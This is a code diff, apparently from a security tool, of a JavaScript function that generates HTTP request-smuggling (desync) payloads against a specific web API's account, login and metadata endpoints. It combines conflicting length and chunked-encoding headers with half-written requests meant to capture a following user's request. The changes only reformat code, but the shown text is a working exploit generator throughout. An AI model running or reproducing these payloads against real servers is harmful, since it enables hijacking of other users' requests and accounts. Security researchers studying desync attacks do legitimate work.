@@ -51,15 +51,26 @@ export function desyncVariants({ host, origin, cookie }) {
     'half a request': `GET /api/account.getInfo?v=2.35&locale=en HTTP/1.1\r\n${own}\r\nX-Swallow: `,
     'half a form': `POST /api/account.changelocale?v=2.35&locale=en HTTP/1.1\r\n${own}\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 200\r\n\r\nlocale=`,
   };
-  const starts = ['GET /api/metadata.get?v=2.35&locale=en', 'HEAD /api/metadata.get?v=2.35&locale=en', 'POST /api/auth.login?v=2.35&locale=en', 'GET /platform/game/none/demo', 'GET /'];
+  const starts = [
+    'GET /api/metadata.get?v=2.35&locale=en',
+    'HEAD /api/metadata.get?v=2.35&locale=en',
+    'POST /api/auth.login?v=2.35&locale=en',
+    'GET /platform/game/none/demo',
+    'GET /',
+  ];
   const variants = [];
-  const add = (trick, start, what, lines, body) => variants.push({ name: `${start.split(' ')[0]} ${start.split(/[ ?]/)[1]}, ${trick}, ${what}`, bytes: `${start} HTTP/1.1\r\n${own}\r\n${lines}\r\n\r\n${body}` });
+  const add = (trick, start, what, lines, body) =>
+    variants.push({
+      name: `${start.split(' ')[0]} ${start.split(/[ ?]/)[1]}, ${trick}, ${what}`,
+      bytes: `${start} HTTP/1.1\r\n${own}\r\n${lines}\r\n\r\n${body}`,
+    });
   for (const [what, hidden] of Object.entries(smuggled)) {
     for (const start of starts.slice(0, 2)) {
       for (const length of LENGTHS) add(length('n'), start, what, length(hidden.length), hidden);
       for (const encoding of ENCODINGS) add(encoding, start, what, encoding, chunked(hidden));
     }
-    for (const encoding of ENCODINGS) add(`${encoding} beside a length`, starts[2], what, `Content-Length: 5\r\n${encoding}`, `0\r\n\r\n${hidden}`);
+    for (const encoding of ENCODINGS)
+      add(`${encoding} beside a length`, starts[2], what, `Content-Length: 5\r\n${encoding}`, `0\r\n\r\n${hidden}`);
     for (const upgrade of UPGRADES) add(upgrade, starts[0], what, upgrade, hidden);
     for (const start of starts.slice(3)) add('a length', start, what, `Content-Length: ${hidden.length}`, hidden);
     // Without any trick: a request that follows on the same connection is the attacker's own and harms nobody.
